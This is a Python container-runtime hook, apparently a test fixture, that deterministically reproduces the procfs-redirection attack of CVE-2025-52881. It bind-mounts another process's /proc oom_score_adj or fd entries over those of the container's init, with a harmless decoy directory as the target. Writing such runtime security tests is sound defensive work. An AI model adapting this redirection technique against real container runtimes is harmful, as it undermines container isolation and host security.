"""A createContainer hook that plays the racing attacker of CVE-2025-52881: with the
container's /proc mounted and before runcell writes to it, it bind-mounts a file or
directory of *another* process's /proc entry over the init's own, so that a runtime
that reaches /proc/self/... through the container's /proc lands on the attacker's
procfs file (real procfs: an "is it procfs" check passes).

The published attack wins a race from a second container that shares a mount with this
one; a hook runs at the same point deterministically (in the container's namespaces,
before pivot_root, with the rootfs as cwd).

usage: procfs_redirect_hook.py MODE OUTDIR
  MODE oom: /proc/1/oom_score_adj becomes the holder's oom_score_adj
  MODE fds: /proc/1/fd becomes the holder's fd directory, every fd of which (3..4095) is
            the directory /decoy of the container (what a runtime mounts must be in the
            container's mount namespace, so the attacker points it at its own harmless
            directory: mounts meant for /proc/sys and /proc/kcore land there instead)
The holder (a process in the container's pid namespace, so its cgroup goes with the
container) records its host pid in OUTDIR/holder.hostpid and sleeps.
"""
import os
import resource
import signal
import subprocess
import sys
import time


def holder(mode, outdir):
    os.setsid()
    null = os.open("/dev/null", os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)
    # /proc here is still the host's procfs (before pivot_root); ./proc is the container's
    host_pid = os.readlink("/proc/self")
    ns_pid = os.readlink("proc/self")
    tmp = os.path.join(outdir, "holder.tmp")
    with open(tmp, "w") as f:
        f.write(f"{host_pid} {ns_pid}\n")
    if mode == "fds":
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 4096), hard))
        decoy = os.open("decoy", os.O_RDONLY | os.O_DIRECTORY)
        # every descriptor it can have (none left afterwards: the record goes first)
        for fd in range(3, min(hard, 4096)):
            if fd != decoy:
                os.dup2(decoy, fd, inheritable=True)
    os.rename(tmp, os.path.join(outdir, "holder.pids"))
    while True:
        signal.pause()


def main():
    mode, outdir = sys.argv[1], sys.argv[2]
    sys.stdin.read()
    if mode == "fds":
        # a mount of its own, so that a runtime that means to remount its bind of
        # /proc/sys read-only through /proc/self/fd/N remounts this one and goes on
        os.makedirs("decoy", exist_ok=True)
        subprocess.run(["mount", "--bind", "decoy", "decoy"], check=True)
    pid = os.fork()
    if pid == 0:
        try:
            holder(mode, outdir)
        finally:
            os._exit(1)
    pids = os.path.join(outdir, "holder.pids")
    for _ in range(500):
        if os.path.exists(pids):
            break
        time.sleep(0.01)
    host_pid, ns_pid = open(pids).read().split()
    what = {"oom": "oom_score_adj", "fds": "fd"}[mode]
    subprocess.run(["mount", "--bind", f"proc/{ns_pid}/{what}", f"proc/1/{what}"], check=True)
    with open(os.path.join(outdir, "mounted"), "w") as f:
        f.write(f"proc/{ns_pid}/{what} over proc/1/{what}\n")


if __name__ == "__main__":
    main()
